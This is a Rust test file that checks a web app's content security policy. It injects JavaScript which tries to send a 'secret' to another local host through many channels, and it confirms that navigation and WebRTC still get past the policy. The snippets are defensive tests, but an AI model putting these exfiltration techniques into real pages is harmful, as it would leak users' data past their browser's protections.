//! Tests which requests the page's content security policy refuses, and which it doesn't cover.
//!
//! Every visit checks that the page requested only its own files. These tests add code to the page that tries to send data. They
//! support the claims in README.md.

use std::collections::BTreeMap;
use std::net::UdpSocket;

use anyhow::{Context, Result, ensure};
use serde_json::{Value, json};

use crate::engine::named;
use crate::server::{Answered, Server, is_built_from};
use crate::visit::Visit;

#[test]
fn policy_comes_before_anything_the_page_loads() -> Result<()> {
    Visit::default().with_service_worker().run(|page| {
        page.open()?;
        let script = "
            const loads = document.head.querySelector('script, link[href]');
            const policy = document.head.querySelector('meta[http-equiv=Content-Security-Policy]');
            return policy && policy.compareDocumentPosition(loads) & Node.DOCUMENT_POSITION_FOLLOWING ? policy.content : ''";
        let policy = page.browser.run(script, json!([]))?.as_str().unwrap_or_default().to_owned();
        for part in [
            "default-src 'none'",
            "connect-src 'self'",
            "worker-src 'self' blob:;",
            "manifest-src 'self';",
            "base-uri 'none'",
            "form-action 'none'",
        ] {
            ensure!(policy.contains(part), "the policy lacks {part}: {policy}");
        }
        for hole in ["'unsafe-inline'", "'unsafe-eval'", "*", "http:", "https:"] {
            ensure!(!policy.contains(hole), "the policy allows {hole}: {policy}");
        }
        Ok(())
    })
}

#[test]
fn browser_refuses_every_request_of_the_page_to_another_host() -> Result<()> {
    let outside = another_host()?;
    Visit::default().with_service_worker().tolerating(outside.host()).run(|page| {
        page.open()?;
        page.browser.run(ATTEMPTS, json!([outside.origin()]))?;
        // How often each kind is tried.
        let kinds = [
            ("connect-src", 5),
            ("default-src", 1),
            ("font-src", 1),
            ("form-action", 1),
            ("frame-src", 1),
            ("img-src", 2),
            ("media-src", 2),
            ("object-src", 2),
            ("script-src-elem", 3),
            ("style-src-elem", 1),
        ];
        let mut refused = Value::Null;
        let waited = page.wait_for("every request to be refused", || {
            refused = page.browser.run("return window.refused", json!([]))?;
            let n_refused = |kind: &str| refused.as_array().into_iter().flatten().filter(|one| *one == kind).count();
            Ok(kinds.iter().all(|(kind, n)| n_refused(kind) >= *n))
        });
        waited.with_context(|| format!("only these were refused: {refused}"))?;
        ensure!(outside.answered().is_empty(), "this got out: {:?}", outside.answered());
        Ok(())
    })
}

/// Tries to send data to the host in `arguments[0]` in every way except navigation.
const ATTEMPTS: &str = "
    const origin = arguments[0];
    // Attempts with the same address could share a request.
    let n = 0;
    const url = () => `${origin}/secret${n++}`;
    const refused = window.refused = [];
    addEventListener('securitypolicyviolation', (event) => refused.push(event.effectiveDirective));
    const add = (name, properties) => {
        const element = Object.assign(document.createElement(name), properties);
        document.body.append(element);
        return element;
    };
    const post = () => {
        const request = new XMLHttpRequest();
        request.open('POST', url());
        request.send('secret');
    };
    const attempts = [
        () => fetch(url(), { method: 'POST', body: 'secret' }),
        () => navigator.sendBeacon(url(), 'secret'),
        () => new WebSocket(url().replace('http', 'ws')),
        () => new EventSource(url()),
        post,
        () => import(url()),
        () => { new Image().src = url(); },
        () => { document.body.style.backgroundImage = `url(${url()})`; },
        () => new FontFace('secret', `url(${url()})`).load(),
        () => add('script', { src: url() }),
        () => add('link', { rel: 'modulepreload', href: url() }),
        () => add('link', { rel: 'stylesheet', href: url() }),
        () => add('link', { rel: 'prefetch', href: url() }),
        () => add('iframe', { src: url() }),
        () => add('object', { data: url() }),
        () => add('embed', { src: url() }),
        () => add('video', { src: url() }),
        () => add('audio', { src: url() }),
        () => new Worker(url()),
        () => navigator.serviceWorker.register(url()),
        () => add('form', { action: url(), method: 'post' }).submit(),
    ];
    for (const attempt of attempts) {
        try { Promise.resolve(attempt()).catch(() => {}); } catch { /* refused at once */ }
    }";

#[test]
fn browser_refuses_requests_of_the_worker_to_another_host() -> Result<()> {
    let outside = another_host()?;
    let origin = outside.origin();
    let attempt = format!("fetch('{origin}/secret', {{ method: 'POST', body: 'secret' }}).catch(() => {{}});\n");
    let visit = Visit::default().with_service_worker().served(move |name, bytes| {
        let more = if is_built_from(name, "worker", ".js") { attempt.as_bytes() } else { b"" };
        Some([more, &bytes[..]].concat())
    });
    visit.tolerating(&origin).run(|page| {
        page.open()?;
        page.wait_for("the browser to refuse the worker", || {
            Ok(page.browser.console()?.iter().any(|line| line.message.contains(&origin)))
        })?;
        ensure!(outside.answered().is_empty(), "this got out: {:?}", outside.answered());
        Ok(())
    })
}

#[test]
fn policy_covers_only_forms_of_requests_to_the_pages_own_host() -> Result<()> {
    Visit::default().with_service_worker().tolerating("404").tolerating("form-action").run_with_server(
        |page, server| {
            page.open()?;
            let form = "
            const form = Object.assign(document.createElement('form'), { action: 'form', method: 'post' });
            addEventListener('securitypolicyviolation', (event) => { window.refused = event.effectiveDirective; });
            document.body.append(form);
            form.submit()";
            page.browser.run(form, json!([]))?;
            page.wait_for("the form to be refused", || {
                Ok(page.browser.run("return window.refused", json!([]))? == "form-action")
            })?;
            let others = "
            navigator.sendBeacon('beacon', 'secret');
            return fetch('fetch', { method: 'POST', body: 'secret' }).then(() => null)";
            page.browser.run(others, json!([]))?;
            let sent = || -> Vec<Answered> {
                server.answered().into_iter().filter(|answered| answered.method == "POST").collect()
            };
            page.wait_for("both to arrive", || Ok(sent().len() == 2))?;
            let sent = sent();
            ensure!(sent.iter().all(|answered| answered.body == "secret"), "{sent:?}");
            ensure!(!sent.iter().any(|answered| answered.path.ends_with("/form")), "{sent:?}");
            server.take_answered();
            Ok(())
        },
    )
}

#[test]
fn policy_does_not_cover_navigation() -> Result<()> {
    let outside = another_host()?;
    let origin = outside.origin();
    Visit::default().with_service_worker().tolerating(&origin).expecting_requests_to(&origin).run(|page| {
        let ways = [
            ("location", "location.href = arguments[0]"),
            ("window", "window.open(arguments[0])"),
            ("link", "Object.assign(document.createElement('a'), { href: arguments[0] }).click()"),
        ];
        for (name, script) in ways {
            page.open()?;
            page.browser.run(script, json!([format!("{origin}/{name}?secret")]))?;
            let path = format!("/{name}");
            page.wait_for(&format!("the {name} to arrive"), || {
                Ok(outside.answered().iter().any(|one| one.path == path && one.query == "secret"))
            })?;
        }
        Ok(())
    })
}

/// Starts a server that records requests and has no files.
fn another_host() -> Result<Server> {
    Server::start(&named("CAMLSCOPE_DIST")?, Box::new(|_, _| None), BTreeMap::new())
}

#[test]
fn policy_does_not_cover_webrtc() -> Result<()> {
    let outside = UdpSocket::bind("127.0.0.1:0")?;
    let address = outside.local_addr()?;
    Visit::default().with_service_worker().run(|page| {
        page.open()?;
        let script = "
            const connection = new RTCPeerConnection({ iceServers: [{ urls: arguments[0] }] });
            connection.createDataChannel('secret');
            connection.createOffer().then((offer) => connection.setLocalDescription(offer))";
        page.browser.run(script, json!([format!("stun:{address}")]))?;
        outside.set_nonblocking(true)?;
        page.wait_for("a packet", || Ok(outside.recv(&mut [0; 100]).is_ok()))
    })
}
